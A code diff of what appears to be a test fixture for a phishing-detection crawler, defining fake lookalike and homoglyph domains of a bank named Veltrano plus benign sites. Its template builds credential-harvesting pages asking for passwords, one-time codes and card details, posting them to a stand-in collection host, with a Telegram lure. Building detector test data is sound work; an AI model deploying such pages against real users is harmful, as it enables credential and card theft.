@@ -13,7 +13,7 @@ export interface Impostor {
   host: string;
   path: string;
   /** How the crawler hears of it. */
-  foundBy: 'seed' | 'sitemap' | 'report';
+  foundBy: 'seed' | 'report';
   site: Site;
 }
 
@@ -30,16 +30,17 @@ const fields = {
   card: '<label>Card number <input name="n" autocomplete="cc-number"></label><label>Valid until <input autocomplete="cc-exp"></label><label>CVC <input autocomplete="cc-csc"></label>',
 };
 
-/** A page that shows the logo and asks for what only the bank should be told. */
-const kit =
-  (words: string, asks: (keyof typeof fields)[]) =>
-  ({ urlOf }: Asking) =>
-    htmlPage(
-      `${watched.name}: ${words}`,
-      `${image}<h1>${words}</h1><p>For your safety ${watched.name} asks every customer to confirm who they are. Your account is limited until then.</p>
-       <form action="${urlOf('collect-2291.net', '/post')}" method="post">${asks.map((each) => fields[each]).join('')}<button>Continue</button></form>
-       <p>&copy; ${watched.name}</p>`,
-    );
+/** A page that shows the logo, right from the bank's own server, and asks for what only the bank should be told. */
+const kit = (words: string, asks: readonly (keyof typeof fields)[]) => (asking: Asking) => {
+  const picture = `<img src="${asking.urlOf(watched.officialDomains[0], logoPath)}" alt="${watched.name}" width="316">`;
+  const inputs = asks.map((each) => fields[each]).join('');
+  return htmlPage(
+    `${watched.name}: ${words}`,
+    `${picture}<h1>${words}</h1><p>For your safety ${watched.name} asks every customer to confirm who they are. Your account is limited until then.</p>
+       <form action="${asking.urlOf('collect-2291.net', '/post')}" method="post">${inputs}<button>Continue</button></form>
+       <p>Payment questions? Write to us on Telegram: <a href="https://t.me/veltrano_desk_help">veltrano_desk_help</a></p><p>&copy; ${watched.name}</p>`,
+  );
+};
 
 const impostor = (
   host: string,
@@ -56,41 +57,28 @@ const impostor = (
     host: hostname,
     path,
     foundBy,
-    site: { host: hostname, pages: { [path]: page, [logoPath]: logo, ...more } },
+    site: { host: hostname, pages: { [path]: page, ...more } },
   };
 };
 
 const robots = (body: string) => ({ '/robots.txt': { headers: { 'content-type': 'text/plain' }, body } });
-const bargains = ({ urlOf }: Asking) => ({
-  headers: { 'content-type': 'application/xml' },
-  body: `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${[
-    '/',
-    '/veltrano-account',
-  ]
-    .map((path) => `<url><loc>${urlOf('bargain-list.net', path)}</loc></url>`)
-    .join('')}</urlset>`,
-});
+const everything = ['password', 'code', 'card'] as const;
 
 export const impostors: readonly Impostor[] = [
-  impostor(target, kit('Sign in', ['password', 'code'])),
-  impostor('veltrano-secure.net', kit('Confirm your card', ['card'])),
-  impostor('veltrano-verify.de', kit('Confirm your identity', ['password', 'card'])),
-  impostor('my-veltrano.info', kit('Your account', ['password', 'code'])),
-  impostor('velltrano.com', kit('Sign in', ['password'])),
-  impostor('veltran0.com', kit('Online banking', ['password', 'code'])),
+  impostor(target, kit('Sign in', everything)),
+  impostor('veltrano-secure.net', kit('Confirm your card', everything)),
+  impostor('veltrano-verify.de', kit('Confirm your identity', everything)),
+  impostor('my-veltrano.info', kit('Your account', everything)),
   // The third letter from the end is Cyrillic.
-  impostor('veltr\u0430no.com', kit('Sign in to your account', ['password', 'code'])),
-  impostor('veltrano.session-check.net', kit('Your session has ended', ['password', 'code'])),
-  impostor('bargain-list.net', kit('Account upgrade', ['password', 'card']), {
-    path: '/veltrano-account',
-    foundBy: 'sitemap',
-    more: {
-      '/': htmlPage(
-        'Bargains of the week',
-        '<h1>Bargains of the week</h1><p>Lamps, rugs and garden chairs, while stocks last.</p>',
-      ),
-      '/sitemap.xml': bargains,
-    },
+  impostor('veltr\u0430no.com', kit('Sign in to your account', everything)),
+  impostor('velltrano.com', kit('Sign in', ['password', 'code']), { foundBy: 'report' }),
+  impostor('veltran0.com', kit('Online banking', ['password', 'card']), { foundBy: 'report' }),
+  impostor('veltrano.session-check.net', kit('Your session has ended', ['password', 'code']), {
+    foundBy: 'report',
+  }),
+  impostor('collect-2291.net', kit('Account upgrade', ['password', 'card']), {
+    path: '/veltrano',
+    foundBy: 'report',
   }),
   impostor('veltrano-support.org', kit('Unlock your card', ['card', 'code']), {
     foundBy: 'report',
@@ -109,9 +97,29 @@ const own = (host: string, words: string): Site => ({
   },
 });
 
+/** Its second page is known by its sitemap alone. */
+const bargainList: Site = {
+  host: 'bargain-list.net',
+  pages: {
+    '/': htmlPage(
+      'Bargains of the week',
+      '<h1>Bargains of the week</h1><p>Lamps, rugs and garden chairs.</p>',
+    ),
+    '/lamps': htmlPage(
+      'Lamps',
+      '<h1>Lamps</h1><p>Brass lamps from a hotel that has closed, while stocks last.</p>',
+    ),
+    '/sitemap.xml': (asking: Asking) => ({
+      headers: { 'content-type': 'application/xml' },
+      body: `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>${asking.urlOf('bargain-list.net', '/lamps')}</loc></url></urlset>`,
+    }),
+  },
+};
+
 /** Everybody else: the brand itself, those who may use its name, and people who have nothing to do with it. */
 export const honestSites: readonly Site[] = [
   ...watched.officialDomains.map((host) => own(host, 'Welcome')),
   ...watched.authorisedDomains.map((host) => own(host, `Partner of ${watched.name}`)),
   ...everydaySites(watched),
+  bargainList,
 ];
